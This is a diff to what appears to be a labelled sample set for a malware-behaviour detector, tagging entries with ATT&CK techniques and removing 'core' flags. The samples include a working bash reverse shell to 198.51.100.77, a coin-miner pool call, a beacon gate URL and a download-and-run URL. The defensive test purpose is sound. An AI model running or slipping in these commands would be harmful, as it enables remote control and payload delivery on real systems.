@@ -18,7 +18,6 @@ for turn in range(5):
     shows: { trace_sends_data_out: ['T1041'], trace_calls_home: ['T1071.001'], trace_stalls: ['T1497.003'] },
     label: 'suspicious',
     tells: ['http://panel.example/gate.php', 'id=web01', 'Mozilla/4.0'],
-    core: true,
   },
   {
     name: 'a protocol of its own on a port of its own',
@@ -91,16 +90,14 @@ pool.sendall(b'{"id":2,"method":"mining.subscribe","params":[]}\n')
     shows: { trace_mines_coins: ['T1496'] },
     label: 'suspicious',
     tells: ['pool.minexmr.example', 'XMRig'],
-    core: true,
   },
   {
     name: 'hands a shell out, by the shell itself',
     language: 'shell',
     source: shell(['timeout 3 bash -c "bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"', 'exit 0']),
-    shows: { trace_opens_reverse_shell: ['T1059.004', 'T1095'] },
+    shows: { trace_opens_reverse_shell: ['T1059.004', 'T1095'], trace_speaks_own_protocol: ['T1095', 'T1571'] },
     label: 'malicious',
     tells: ['198.51.100.77'],
-    core: true,
   },
   {
     name: 'hands a shell out, by calls',
@@ -150,7 +147,6 @@ except OSError: pass
     shows: { trace_downloads_and_runs: ['T1105'], trace_fetches_further_stage: ['T1105', 'T1071.001'] },
     label: 'suspicious',
     tells: ['http://dl.example/bins/x86.sh'],
-    core: true,
   },
   {
     name: 'tries machines one after another',
